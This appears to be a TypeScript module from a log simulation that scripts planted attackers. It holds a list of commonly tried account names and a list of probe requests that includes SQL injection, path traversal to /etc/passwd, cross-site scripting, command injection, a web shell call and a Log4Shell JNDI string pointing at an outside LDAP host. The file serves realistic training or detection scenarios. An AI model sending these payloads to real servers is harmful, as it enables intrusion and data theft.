/** What planted attackers do: each keeps to one log and one way of attacking, a few minutes long, as most who are met in logs. */
import type { Random } from './world.ts';

/** From one move to the next. */
export const MOVE_EVERY_MS = 3_000;

const NAMES_TRIED =
  'admin backup deploy ftpuser git guest nagios oracle pi postgres root test tomcat ubuntu user www'.split(' ');

export function accountTried(random: Random): string {
  return random.of(NAMES_TRIED);
}

const TARGETS = [
  '/wp-login.php',
  '/.env',
  '/.git/config',
  '/phpmyadmin/index.php',
  '/shell.php?cmd=id',
  '/cgi-bin/../../../../etc/passwd',
  "/shop/item?id=1'%20OR%20'1'='1",
  '/shop/item?id=1%20UNION%20SELECT%20name,password%20FROM%20users',
  '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/ping?host=127.0.0.1;cat%20/etc/passwd',
  '/?x=$%7Bjndi:ldap://192.0.2.66/a%7D',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
] as const;

/** By the number of the attacker's move, so that each one tries several. */
export function targetTried(move: number): string {
  return TARGETS[move % TARGETS.length]!;
}
